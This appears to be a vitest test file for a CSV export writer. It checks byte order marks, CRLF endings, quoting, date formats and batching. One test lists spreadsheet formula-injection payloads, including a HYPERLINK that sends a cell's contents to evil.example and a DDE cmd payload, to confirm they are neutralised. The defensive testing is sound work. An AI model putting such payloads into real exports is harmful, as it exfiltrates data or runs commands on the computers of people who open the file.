// The CSV writer: what Excel and LibreOffice need to open a file as written (a UTF-8 byte order mark,
// CRLF line ends, quoted line breaks) and cells that a spreadsheet would run as a formula neutralised.
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../testing/csv.js';
import { CSV_BOM, csvDownload, keysetBatches } from './csv.js';

interface Row {
  id: number;
  text: string | null;
  amount: number;
  when: Date | null;
  flag: boolean;
}

const columns = [
  { header: 'Id', value: (r: Row) => r.id },
  { header: 'Text', value: (r: Row) => r.text },
  { header: 'Amount', value: (r: Row) => r.amount },
  { header: 'When', value: (r: Row) => r.when },
  { header: 'Flag', value: (r: Row) => r.flag },
];

async function written(rows: Row[][]) {
  async function* batches() {
    yield* rows;
  }
  let text = '';
  for await (const piece of csvDownload('x.csv', columns, batches()).body) text += piece;
  return text;
}

const row = (id: number, text: string | null, amount = 0): Row => ({ id, text, amount, when: null, flag: false });

describe('csvDownload', () => {
  it('starts with a UTF-8 byte order mark, once, and ends every line with CRLF', async () => {
    const text = await written([[row(1, 'Müller')], [row(2, 'García')]]);
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.indexOf(CSV_BOM, 1)).toBe(-1);
    expect(text.slice(1)).toBe('Id,Text,Amount,When,Flag\r\n1,Müller,0,,No\r\n2,García,0,,No\r\n');
    expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('quotes a cell holding a line break, quote or comma, and reads back as written', async () => {
    const text = await written([[row(1, 'two\nlines'), row(2, 'a "quote", and a comma'), row(3, 'cr\r\nlf')]]);
    expect(parseCsv(text).map((r) => r[1])).toEqual(['Text', 'two\nlines', 'a "quote", and a comma', 'cr\r\nlf']);
  });

  it('neutralises text cells a spreadsheet would run as a formula, with a leading single quote', async () => {
    const typed = [
      '=HYPERLINK("http://evil.example/?x="&A2,"Open")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '\tx',
      '\rx',
      '＝1+1', // full-width forms, which Numbers reads as the ASCII ones
    ];
    const text = await written([typed.map((t, i) => row(i + 1, t))]);
    expect(
      parseCsv(text)
        .slice(1)
        .map((r) => r[1]),
    ).toEqual(typed.map((t) => `'${t}`));
  });

  it('leaves numbers written as numbers alone: a negative amount is not a formula', async () => {
    const text = await written([[row(1, 'plain', -12.5), row(2, '-12.5', -3)]]);
    const rows = parseCsv(text).slice(1);
    expect(rows.map((r) => r[2])).toEqual(['-12.5', '-3']);
    // The same characters typed as text are quoted: the writer cannot know a person typed a number.
    expect(rows[1]?.[1]).toBe("'-12.5");
    expect(rows[0]?.[1]).toBe('plain');
  });

  it('writes dates as ISO 8601 and booleans as Yes or No, as the console says them', async () => {
    const text = await written([
      [{ id: 1, text: null, amount: 1, when: new Date('2026-01-02T03:04:05Z'), flag: true }],
    ]);
    expect(parseCsv(text)[1]).toEqual(['1', '', '1', '2026-01-02T03:04:05.000Z', 'Yes']);
  });
});

describe('keysetBatches', () => {
  it('reads after the last id until a short batch', async () => {
    const ids = Array.from({ length: 7 }, (_, i) => ({ id: i + 1 }));
    const asked: number[] = [];
    const seen: number[] = [];
    for await (const batch of keysetBatches(async (after, size) => {
      asked.push(after);
      return ids.filter((r) => r.id > after).slice(0, size);
    }, 3))
      seen.push(...batch.map((r) => r.id));
    expect(seen).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(asked).toEqual([0, 3, 6]);
  });
});
